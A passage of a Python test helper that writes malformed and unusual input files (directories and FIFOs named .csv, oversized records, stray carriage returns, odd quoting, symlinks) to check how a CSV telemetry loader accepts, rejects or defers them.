    error("directory_named_like_a_csv", folder_named_csv, "a directory called folder.csv, with no CSV inside",
          "holds no .csv files")
    with_subdir = d / "has-subdir"
    (with_subdir / "old.csv").mkdir(parents=True, exist_ok=True)
    (with_subdir / "usage.csv").write_bytes(text_file(row(1)))
    error("directory_holding_a_directory_named_csv", with_subdir,
          "a good CSV next to a sub-directory called old.csv: refused, not silently skipped",
          "is a directory, not a regular file", names=with_subdir / "old.csv")
    with_fifo = d / "has-fifo"
    with_fifo.mkdir(parents=True, exist_ok=True)
    (with_fifo / "usage.csv").write_bytes(text_file(row(1)))
    os.mkfifo(_fresh(with_fifo / "pipe.csv"))
    error("directory_holding_a_fifo_named_csv", with_fifo,
          "a good CSV next to a FIFO called pipe.csv: refused (not silently skipped, and never blocking)",
          "FIFO", names=with_fifo / "pipe.csv")
    (d / "globbed-dir.csv").mkdir(parents=True, exist_ok=True)
    error("glob_matching_a_directory", d / "globbed-*.csv", "a glob whose only match is a directory",
          "is a directory, not a regular file", names=d / "globbed-dir.csv")
    return cases


def _more_loads(d: Path) -> list[HostileCase]:
    cases = []

    def load(name: str, filename: str, data: bytes | None, about: str, counts: dict,
             rejects: dict[int, str] | None = None, checks: tuple = (), pending: int | None = None) -> None:
        cases.append(HostileCase(name, d / filename, data, "loads", about, counts=counts, rejects=rejects or {},
                                 checks=checks, pending_line=pending))

    load("excel_sep_hint", "sep-hint.csv",
         ("\ufeffsep=,\r\n" + CANONICAL_HEADER + "\r\n" + row(1) + "\r\n" + row(2) + "\r\n").encode(),
         "Excel's 'sep=,' line (after a BOM, CRLF) before the header is skipped; lines are counted from it",
         loaded(2, 2), checks=(("select source_line_number from telemetry.llm_calls order by 1", [(3,), (4,)]),))
    load("header_then_an_unfinished_row", "header-partial.csv",
         (CANONICAL_HEADER + "\n" + row(1)[:30]).encode(),
         "the header, then the first half of a row: nothing to read yet (not 'unchanged'), the row waits",
         loaded(0, 0), pending=2)
    fixed = len(row(0, notes=""))
    exact = row(1, notes="Phase 1 " + "e" * (MAX_RECORD - fixed - 8))
    over = row(2, notes="Phase 1 " + "o" * (MAX_RECORD - fixed - 7))
    load("records_at_and_over_the_1_mib_limit", "limit.csv",
         text_file(exact, over, "," * 1_100_000, row(4)),
         "a record of exactly 1 MiB loads; one byte more, or a line of 1.1 million commas, is rejected as too "
         "long (the bulk path hands such files to the careful path, which never holds them)",
         loaded(4, 2, rejected=2), {3: TOO_LONG, 4: TOO_LONG},
         checks=(("select source_line_number, length(notes) from telemetry.llm_calls order by 1",
                  [(2, MAX_RECORD - fixed), (5, 13)]),))
    load("line_endings_copy_markers_and_blank_lines", "endings.csv",
         (CANONICAL_HEADER + "\n" + row(1) + "\n" + row(2)[:30] + "\r" + row(2)[30:] + "\n" + "\\.\n"
          + "\\.\r\n" + "\n\r\n" * 100_000 + row(3) + "\r\n" + row(4) + "\r").encode(),
         "a bare CR inside a line of an LF file is data, not a line ending (here in prompt_tokens, which then is "
         "not a count), COPY's end marker \\. on its own line (LF and CRLF) is a record of one field, 200,000 "
         "blank lines are skipped, and a last line that has its CR but not its LF yet waits",
         loaded(5, 2, rejected=3), {3: NOT_A_COUNT, 4: FIELD_COUNT, 5: FIELD_COUNT},
         checks=(("select source_line_number from telemetry.llm_calls order by 1", [(2,), (200_006,)]),),
         pending=200_007)
    load("bare_cr_in_fields_of_lf_and_crlf_files", "bare-cr.csv",
         text_file(row(1, notes="a\rb"), row(2, notes=q("quoted\rcr")), row(3, notes="x\ry\r\rz"),
                   row(4, notes="CR then LF\r")),
         "a bare CR in an unquoted notes field of a file whose lines end in LF is kept in the field (the call is "
         "stored whole, never cut at the CR), as it is in a quoted one; a CR just before the LF is a CRLF line "
         "ending", loaded(4, 4),
         checks=(("select source_line_number, notes from telemetry.llm_calls order by 1",
                  [(2, "a\rb"), (3, "quoted\rcr"), (4, "x\ry\r\rz"), (5, "CR then LF")]),))
    load("bare_cr_in_a_field_of_a_crlf_file", "bare-cr-crlf.csv",
         text_file(row(1, notes="a\rb"), row(2), newline="\r\n"),
         "in a file whose lines end in CRLF, a CR without its LF is data too", loaded(2, 2),
         checks=(("select source_line_number, notes from telemetry.llm_calls order by 1",
                  [(2, "a\rb"), (3, "Phase 1 row 2")]),))
    load("cr_only_with_an_unfinished_last_line", "cr-only-unfinished.csv",
         text_file(row(1), row(2), newline="\r")[:-1] + b"\r" + row(3).encode(),
         "classic Mac OS line endings; the last line has no CR yet", loaded(2, 2), pending=4)
    load("quotes_in_odd_places", "odd-quotes.csv",
         text_file(row(1, notes='a"b"c'), row(2, notes='""""'), row(3, model='"gpt-4o"'), row(4, notes='"a"b'),
                   row(5, notes='"x" '), row(6, notes='"')),
         "quotes inside an unquoted field are kept; a field of one escaped quote; a quoted model; text after a "
         "closing quote (rejected); a lone quote at the end opens a field that never closes (waits)",
         loaded(5, 3, rejected=2), {5: MALFORMED, 6: MALFORMED}, pending=7,
         checks=(("select model, notes from telemetry.llm_calls order by source_line_number",
                  [("gpt-4o", 'a"b"c'), ("gpt-4o", '"'), ("gpt-4o", "Phase 1 row 3")]),))
    load("concatenated_files_repeat_the_header", "concatenated.csv",
         text_file(row(1)) + b"\xef\xbb\xbf" + text_file(row(2)),
         "two files joined with cat: the second header (with its BOM) is a record whose timestamp is not one",
         loaded(3, 2, rejected=1), {3: NOT_A_TIMESTAMP})
    target = d / "links" / "target.data"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(text_file(row(1), row(2)))
    link = _fresh(d / "links" / "usage.csv")
    link.symlink_to(target)
    load("symlink_to_a_regular_file", "links/usage.csv", None, "a symbolic link to a regular file is read",
         loaded(2, 2))
    upper = d / "upper"
    upper.mkdir(parents=True, exist_ok=True)
    (upper / "USAGE.CSV").write_bytes(text_file(row(1), row(2)))
    (upper / "backup.Csv").write_bytes(text_file(row(3)))
    (upper / ".hidden.csv").write_bytes(b"")  # hidden files are not part of a directory
    load("upper_case_csv_names_in_a_directory", "upper", None,
         "a directory holding USAGE.CSV and backup.Csv: .csv matches in any case", loaded(3, 3))
    return cases


def build(directory: Path | str) -> list[HostileCase]:
    """Write every hostile file under `directory` and return the cases, file errors first."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    cases = (_file_errors(directory) + _encodings_and_formats(directory) + _special_paths(directory)
             + _loads(directory) + _more_loads(directory))
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    for case in cases:
        if case.data is not None:
            case.path.parent.mkdir(parents=True, exist_ok=True)
            case.path.write_bytes(case.data)
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: python tests/hostile_files.py OUTDIR", file=sys.stderr)
        return 2
    for case in build(argv[1]):
        size = "-" if case.data is None else f"{len(case.data):,} B"
        outcome = "file error" if case.expect == "file_error" else " ".join(
            f"{k}={v}" for k, v in (case.counts or {}).items())
        print(f"{case.name:45} {size:>14}  {outcome}  {case.path}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
